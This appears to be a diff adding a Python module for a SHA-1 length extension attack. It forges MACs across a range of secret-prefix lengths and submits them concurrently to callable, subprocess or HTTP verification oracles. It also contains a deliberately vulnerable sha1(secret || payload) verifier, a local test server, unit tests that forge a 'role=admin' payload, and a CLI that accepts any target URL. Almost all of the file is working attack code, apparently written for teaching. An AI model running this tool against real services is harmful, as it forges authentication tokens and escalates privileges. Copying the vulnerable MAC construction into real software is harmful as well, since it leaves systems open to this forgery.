@@ -0,0 +1,456 @@
+#!/usr/bin/env python3
+
+""" Drives the length extension attack against a verification oracle.
+
+In practice the length of the secret prefix is unknown. So forgeries are
+generated for a whole range of prefix lengths and submitted to an oracle (the
+verifier of the attacked service) until one of them is accepted.
+
+The state of the known digest is parsed and the full blocks of the appendix
+are compressed only once: the padded data always ends on a block boundary, so
+the prefix length only changes the final padding block(s) of each forgery.
+
+Oracles are coroutines checking a (payload, hexdigest) pair. There are oracles
+for python callables, subprocesses (accepted if the exit code is 0) and HTTP
+endpoints (accepted on status 200) using a pool of keep-alive connections.
+Forgeries the oracle fails on (e.g. connection errors) are retried, so no
+prefix length is skipped because of a transient error.
+"""
+
+import argparse
+import asyncio
+import collections
+import hashlib
+import hmac
+import http.server
+import threading
+import time
+import unittest
+import urllib.parse
+
+from hashing.sha1_lea import SHA1
+
+
+# number of attempts per forgery and delay (seconds, doubled per attempt) between them:
+DEFAULT_RETRIES = 3
+RETRY_DELAY = 0.1
+
+
+class OracleError(RuntimeError):
+    """ Raised if no forgery was accepted but the oracle failed on some of them.
+    The failures attribute is the list of (prefix length, exception) tuples.
+    """
+
+    def __init__(self, failures):
+        self.failures = failures
+
+        prefix_length, error = failures[-1]
+        super().__init__(
+            f"the oracle failed on {len(failures)} forgeries, last on prefix length {prefix_length}: "
+            f"{type(error).__name__}: {error}"
+        )
+
+
+class AttackResult(collections.namedtuple(
+        'AttackResult', ['prefix_length', 'hexdigest', 'payload', 'tried', 'elapsed'])):
+    """ Result of an attack: the accepted forgery (None if there is none), the
+    number of submitted forgeries and the elapsed time in seconds.
+    """
+
+    __slots__ = ()
+
+    @property
+    def rate(self):
+        """ Throughput of the attack in forgeries per second. """
+
+        return self.tried / self.elapsed if self.elapsed else 0.0
+
+
+def forgeries(hexdigest, data, appendix, prefix_lengths):
+    """ Yields the tuples (prefix length, forged hexdigest, forged payload) for
+    all given prefix lengths. Every forgery equals the result of sha1_lea() for
+    the same arguments.
+    """
+
+    # compress the full blocks of the appendix once for all prefix lengths:
+    session = SHA1(SHA1.hexdigest_to_state(hexdigest)).update(appendix)
+
+    for prefix_length in prefix_lengths:
+        padded_data = SHA1.finalize_pad_message(prefix_length, data)
+
+        forged = SHA1(session.h)
+        forged.hashed_bytes = prefix_length + len(padded_data) + session.hashed_bytes
+        forged.buffer = session.buffer
+
+        yield prefix_length, forged.hexdigest(), padded_data + appendix
+
+
+class CallableOracle:
+    """ Oracle calling func(payload, hexdigest) in a thread, accepted if it returns true. """
+
+    def __init__(self, func):
+        self.func = func
+
+    async def verify(self, payload, hexdigest):
+        return bool(await asyncio.get_running_loop().run_in_executor(None, self.func, payload, hexdigest))
+
+    async def close(self):
+        pass
+
+
+class SubprocessOracle:
+    """ Oracle running the given command (list) with the payload (hex encoded)
+    and the hexdigest as additional arguments, accepted if the exit code is 0.
+    """
+
+    def __init__(self, command):
+        self.command = list(command)
+
+    async def verify(self, payload, hexdigest):
+        process = await asyncio.create_subprocess_exec(
+            *self.command, payload.hex(), hexdigest,
+            stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL
+        )
+
+        return await process.wait() == 0
+
+    async def close(self):
+        pass
+
+
+class HTTPOracle:
+    """ Oracle requesting GET <url>?payload=<hex>&mac=<hexdigest>, accepted if the
+    response status is 200. Up to pool_size keep-alive connections are reused.
+    The url is either http or https, raises a ValueError for other schemes.
+    """
+
+    def __init__(self, url, pool_size=16):
+        url = urllib.parse.urlsplit(url)
+
+        if url.scheme not in ('http', 'https'):
+            raise ValueError(f"unsupported scheme '{url.scheme}', expected http or https")
+
+        self.tls = url.scheme == 'https'
+        self.host, self.port = url.hostname, url.port or (443 if self.tls else 80)
+        self.path = url.path or '/'
+        self.pool_size = pool_size
+
+        self._idle = []
+        self._semaphore = None
+
+    async def _request(self, connection, target):
+        reader, writer = connection
+
+        writer.write(f'GET {target} HTTP/1.1\r\nHost: {self.host}\r\n\r\n'.encode())
+        await writer.drain()
+
+        status_line = await reader.readline()
+        if not status_line:
+            raise ConnectionError("connection closed by the oracle")
+
+        headers = {}
+        while (line := await reader.readline()) not in (b'\r\n', b'\n', b''):
+            name, _, value = line.decode('latin-1').partition(':')
+            headers[name.strip().lower()] = value.strip()
+
+        await reader.readexactly(int(headers.get('content-length', 0)))
+        keep_alive = headers.get('connection', '').lower() != 'close'
+
+        return int(status_line.split()[1]), keep_alive
+
+    async def verify(self, payload, hexdigest):
+        if self._semaphore is None:
+            self._semaphore = asyncio.Semaphore(self.pool_size)
+
+        query = urllib.parse.urlencode({'payload': payload.hex(), 'mac': hexdigest})
+
+        async with self._semaphore:
+            connection = self._idle.pop() if self._idle else None
+            keep_alive = False
+
+            try:
+                try:
+                    if connection is None:
+                        raise ConnectionError
+                    status, keep_alive = await self._request(connection, f'{self.path}?{query}')
+                except (ConnectionError, asyncio.IncompleteReadError):
+                    # the pooled connection went stale (or there was none), open a new one:
+                    if connection is not None:
+                        connection[1].close()
+                        connection = None
+
+                    connection = await asyncio.open_connection(self.host, self.port, ssl=self.tls or None)
+                    status, keep_alive = await self._request(connection, f'{self.path}?{query}')
+            finally:
+                if connection is not None:
+                    if keep_alive:
+                        self._idle.append(connection)
+                    else:
+                        connection[1].close()
+
+        return status == 200
+
+    async def close(self):
+        while self._idle:
+            _, writer = self._idle.pop()
+            writer.close()
+
+
+async def attack_async(oracle, hexdigest, data, appendix, prefix_lengths, concurrency=16,
+                       retries=DEFAULT_RETRIES):
+    """ Submits the forgeries for all prefix lengths to the oracle with at most
+    concurrency pending requests and stops at the first accepted forgery. A
+    forgery the oracle raises on is submitted up to retries times.
+
+    Returns an AttackResult, its prefix_length (and forgery) is None if no
+    forgery was accepted. Raises an OracleError instead if the oracle failed on
+    a forgery in all attempts (it could have been the right one).
+    """
+
+    candidates = forgeries(hexdigest, data, appendix, prefix_lengths)
+    found, tried, start = None, 0, time.perf_counter()
+    failures, retries = [], max(retries, 1)
+
+    async def verify(prefix_length, forged_digest, payload):
+        for attempt in range(retries):
+            try:
+                return await oracle.verify(payload, forged_digest)
+            except Exception as error:  # pylint: disable=broad-except
+                if attempt == retries - 1:
+                    failures.append((prefix_length, error))
+                    return False
+
+                await asyncio.sleep(RETRY_DELAY * 2 ** attempt)
+
+        return False
+
+    async def worker():
+        nonlocal found, tried
+
+        # the workers share the generator, each forgery is submitted exactly once:
+        for prefix_length, forged_digest, payload in candidates:
+            accepted = await verify(prefix_length, forged_digest, payload)
+            tried += 1
+
+            if accepted:
+                found = prefix_length, forged_digest, payload
+
+                for task in tasks:
+                    if task is not asyncio.current_task():
+                        task.cancel()
+                return
+
+    tasks = [asyncio.create_task(worker()) for _ in range(concurrency)]
+    await asyncio.wait(tasks)
+
+    # errors of the driver itself (the oracle errors are caught by verify()):
+    for task in tasks:
+        if not task.cancelled() and task.exception() is not None:
+            raise task.exception()
+
+    if found is None and failures:
+        raise OracleError(failures)
+
+    return AttackResult(*(found or (None, None, None)), tried, time.perf_counter() - start)
+
+
+def attack(oracle, hexdigest, data, appendix, prefix_lengths, concurrency=16, retries=DEFAULT_RETRIES):
+    """ Synchronous wrapper of attack_async(), closes the oracle afterwards. """
+
+    async def run():
+        try:
+            return await attack_async(oracle, hexdigest, data, appendix, prefix_lengths, concurrency, retries)
+        finally:
+            await oracle.close()
+
+    return asyncio.run(run())
+
+
+def make_verifier(secret):
+    """ Returns a function verifying sha1(secret || payload) == hexdigest, the
+    vulnerable construction of a MAC this attack is about.
+    """
+
+    def verify(payload, hexdigest):
+        return hmac.compare_digest(hashlib.sha1(secret + payload).hexdigest(), hexdigest)
+
+    return verify
+
+
+class LocalOracleServer(http.server.ThreadingHTTPServer):
+    """ Local stand-in for an attacked HTTP service verifying MACs with the given
+    secret (see make_verifier()). Use it as context manager to serve in a
+    background thread, the url attribute is the endpoint for HTTPOracle.
+    """
+
+    daemon_threads = True
+    request_queue_size = 128
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        protocol_version = 'HTTP/1.1'
+        disable_nagle_algorithm = True
+
+        def do_GET(self):
+            query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
+
+            try:
+                payload = bytes.fromhex(query['payload'][0])
+                accepted = self.server.verify(payload, query['mac'][0])
+            except (KeyError, ValueError):
+                accepted = False
+
+            body = b'accepted' if accepted else b'rejected'
+
+            self.send_response(200 if accepted else 403)
+            self.send_header('Content-Length', str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    def __init__(self, secret, host='127.0.0.1', port=0):
+        super().__init__((host, port), self.Handler)
+
+        self.verify = make_verifier(secret)
+        self.url = f'http://{host}:{self.server_address[1]}/verify'
+        self._thread = None
+
+    def __enter__(self):
+        self._thread = threading.Thread(target=self.serve_forever, daemon=True)
+        self._thread.start()
+        return self
+
+    def __exit__(self, *args):
+        self.shutdown()
+        self.server_close()
+        self._thread.join()
+
+
+class TestAttack(unittest.TestCase):
+    """ Runs the attack against local oracles. """
+
+    secret, data, appendix = b'unknown secret!', b'user=bob;role=user', b';role=admin'
+
+    def test_forgeries(self):
+        """ Tests that the forgeries are valid for the right prefix length only. """
+
+        hexdigest = hashlib.sha1(self.secret + self.data).hexdigest()
+        verify = make_verifier(self.secret)
+
+        accepted = [
+            prefix_length for prefix_length, forged_digest, payload
+            in forgeries(hexdigest, self.data, self.appendix * 10, range(40))
+            if verify(payload, forged_digest)
+        ]
+
+        self.assertEqual(accepted, [len(self.secret)])
+
+    def test_oracles(self):
+        """ Tests the attack driver against the callable and the HTTP oracle. """
+
+        hexdigest = hashlib.sha1(self.secret + self.data).hexdigest()
+
+        with LocalOracleServer(self.secret) as server:
+            for oracle in (CallableOracle(make_verifier(self.secret)), HTTPOracle(server.url, 4)):
+                result = attack(oracle, hexdigest, self.data, self.appendix, range(1, 64), 8)
+
+                self.assertEqual(result.prefix_length, len(self.secret))
+                self.assertTrue(result.payload.endswith(self.appendix))
+                self.assertEqual(hashlib.sha1(self.secret + result.payload).hexdigest(), result.hexdigest)
+
+        self.assertEqual(HTTPOracle('https://example.com/verify').port, 443)
+        self.assertRaises(ValueError, HTTPOracle, 'ftp://example.com/verify')
+
+    def test_oracle_errors(self):
+        """ Tests that failed requests are retried and persistent failures raise. """
+
+        hexdigest = hashlib.sha1(self.secret + self.data).hexdigest()
+        verify, calls = make_verifier(self.secret), collections.Counter()
+
+        def flaky(payload, forged_digest):
+            # every forgery fails on its first submission:
+            calls[payload] += 1
+
+            if calls[payload] == 1:
+                raise ConnectionError("flaky oracle")
+
+            return verify(payload, forged_digest)
+
+        result = attack(CallableOracle(flaky), hexdigest, self.data, self.appendix, range(1, 64), 8)
+        self.assertEqual(result.prefix_length, len(self.secret))
+
+        def broken(payload, forged_digest):
+            raise ConnectionError("unreachable")
+
+        with self.assertRaises(OracleError) as context:
+            attack(CallableOracle(broken), hexdigest, self.data, self.appendix, range(1, 10), 4, retries=2)
+
+        self.assertEqual(sorted(prefix_length for prefix_length, _ in context.exception.failures), list(range(1, 10)))
+
+
+def cli():
+    """ Provides a command line interface. Pass -h as argument to get some information.
+
+    Example:
+
+    $ python3 -m hashing.lea_attack serve --secret "unknown secret!" --port 8000 &
+
+    $ python3 -m hashing.lea_attack attack --url http://127.0.0.1:8000/verify \\
+        00229126792ee3b96670002237667f33a926a6a9 "user=bob;role=user" ";role=admin"
+    """
+
+    parser = argparse.ArgumentParser(description='Length extension attack against an oracle.')
+    subparsers = parser.add_subparsers(dest='command', required=True)
+
+    serve = subparsers.add_parser('serve', help='run a local HTTP oracle')
+    serve.add_argument('--secret', required=True, help='secret prefix of the MAC')
+    serve.add_argument('--host', default='127.0.0.1')
+    serve.add_argument('--port', type=int, default=8000)
+
+    run = subparsers.add_parser('attack', help='run the attack against an oracle')
+    run.add_argument('hexdigest', help='known MAC sha1(secret || payload)')
+    run.add_argument('payload', help='known payload')
+    run.add_argument('appendix', help='data to append')
+    run.add_argument('--min-length', type=int, default=0, help='smallest prefix length to try')
+    run.add_argument('--max-length', type=int, default=64, help='largest prefix length to try')
+    run.add_argument('--concurrency', type=int, default=16, help='number of pending requests')
+    run.add_argument('--retries', type=int, default=DEFAULT_RETRIES, help='attempts per forgery')
+
+    oracle = run.add_mutually_exclusive_group(required=True)
+    oracle.add_argument('--url', help='HTTP oracle endpoint')
+    oracle.add_argument('--exec', nargs='+', help='command accepting <payload hex> <mac> (exit 0)')
+
+    args = parser.parse_args()
+
+    if args.command == 'serve':
+        with LocalOracleServer(args.secret.encode(), args.host, args.port) as server:
+            print("[+] serving the oracle at", server.url)
+            threading.Event().wait()
+
+    try:
+        oracle = HTTPOracle(args.url, args.concurrency) if args.url else SubprocessOracle(args.exec)
+    except ValueError as error:
+        parser.error(str(error))
+
+    try:
+        result = attack(
+            oracle, args.hexdigest, args.payload.encode(), args.appendix.encode(),
+            range(args.min_length, args.max_length + 1), args.concurrency, args.retries
+        )
+    except OracleError as error:
+        parser.exit(1, f"[-] {error}\n")
+
+    print(f"[+] tried {result.tried} forgeries in {result.elapsed:.2f}s ({result.rate:.1f} forgeries/s)")
+
+    if result.prefix_length is None:
+        print("[-] no forgery was accepted")
+        return
+
+    print("[+] prefix length:", result.prefix_length)
+    print("[+] new hashsum:", result.hexdigest)
+    print("[+] new payload:", result.payload)
+
+
+if __name__ == "__main__":
+    cli()